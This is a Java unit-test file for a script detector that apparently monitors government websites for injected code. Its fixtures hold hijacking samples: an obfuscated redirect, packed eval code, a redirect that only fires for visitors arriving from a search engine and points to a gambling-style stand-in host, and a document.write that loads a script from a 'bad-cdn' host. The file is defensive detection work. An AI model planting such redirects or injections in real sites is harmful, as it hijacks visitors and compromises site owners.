package org.govsite.monitoring.detect;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;

import org.govsite.monitoring.Check;
import org.govsite.monitoring.Detection;
import org.govsite.monitoring.Severity;
import org.junit.jupiter.api.Test;

/** Injected scripts: obfuscation, conditional redirects, written scripts, unexpected hosts; ordinary scripts not. */
class ScriptDetectorTests {

	final ScriptDetector detector = new ScriptDetector(List.of("gov.cn", "baidu.com", "cnzz.com"));

	@Test
	void findsAnObfuscatedRedirect() {
		var code = "var u=String.fromCharCode(104,116,116,112,115,58,47,47,98,101,116,46,101,120);window.location.href=u;";
		var found = detector.inspect(Pages.html("<html><body><script>" + code + "</script></body></html>"));
		assertThat(found).singleElement().satisfies(d -> {
			assertThat(d.check()).isEqualTo(Check.SCRIPTS);
			assertThat(d.kind()).isEqualTo("OBFUSCATED_SCRIPT");
			assertThat(d.severity()).isEqualTo(Severity.SERIOUS);
			assertThat(d.evidence()).isEqualTo("混淆脚本并执行跳转（String.fromCharCode）：" + code);
		});
	}

	@Test
	void findsEvalHexEscapesAndPackedCode() {
		var hex = "var _0x1=['\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x62\\x65\\x74'];";
		assertThat(detector.inspect(Pages.html("<script>" + hex + "</script>"))).singleElement()
			.extracting(Detection::evidence).isEqualTo("混淆脚本（11 处十六进制/Unicode 转义）：" + hex);
		var packed = "eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|'),0,{}))";
		assertThat(detector.inspect(Pages.html("<script>" + packed + "</script>"))).singleElement()
			.extracting(Detection::evidence).isEqualTo("混淆脚本（eval、function(p,a,c,k,e）：" + packed);
	}

	@Test
	void findsARedirectForVisitorsFromASearchEngine() {
		var code = "if(document.referrer.indexOf('baidu')>-1){location.replace('https://bet.example.com/');}";
		assertThat(detector.inspect(Pages.html("<script>" + code + "</script>"))).singleElement()
			.satisfies(d -> {
				assertThat(d.kind()).isEqualTo("CONDITIONAL_REDIRECT");
				assertThat(d.evidence()).isEqualTo("按来源页或浏览器标识有条件跳转（疑似针对搜索引擎来访者的劫持）：" + code);
			});
	}

	@Test
	void findsAWrittenScriptAndAnUnexpectedScriptHost() {
		var code = "document.write('<script src=\"https://js.bad-cdn.example/x.js\"></scr'+'ipt>');";
		var found = detector.inspect(Pages.html("<script src=\"https://static.other.example/a.js\"></script><script>"
				+ code + "</script>"));
		assertThat(found).extracting(Detection::kind, Detection::severity, Detection::url)
			.containsExactly(
					org.assertj.core.groups.Tuple.tuple("UNEXPECTED_SCRIPT_HOST", Severity.GENERAL,
							"https://static.other.example/a.js"),
					org.assertj.core.groups.Tuple.tuple("SCRIPT_WRITE", Severity.SERIOUS, "js.bad-cdn.example"));
		assertThat(found.get(0).evidence()).isEqualTo(
				"脚本来自本网站以外且不在允许名单中的域名 static.other.example：<script src=\"https://static.other.example/a.js\"></script>");
	}

	@Test
	void leavesOrdinaryScriptsOfTheSiteAndAllowedCountersAlone() {
		var body = """
				<script src="/js/jquery.min.js"></script>
				<script src="https://static.jiaxian.gov.cn/js/app.js"></script>
				<script src="https://www.gov.cn/js/share.js"></script>
				<script>var _hmt=_hmt||[];(function(){var hm=document.createElement("script");hm.src="https://hm.baidu.com/hm.js?abc";var s=document.getElementsByTagName("script")[0];s.parentNode.insertBefore(hm,s);})();</script>
				<script>var cnzz_protocol=(("https:"==document.location.protocol)?"https://":"http://");document.write(unescape("%3Cspan id='cnzz_stat_icon_1'%3E%3C/span%3E%3Cscript src='"+cnzz_protocol+"s4.cnzz.com/stat.php%3Fid%3D1' type='text/javascript'%3E%3C/script%3E"));</script>
				<script>function go(){ window.location.href = '/search?q=' + encodeURIComponent(document.getElementById('q').value); }</script>
				""";
		assertThat(detector.inspect(Pages.html(body))).isEmpty();
	}
}
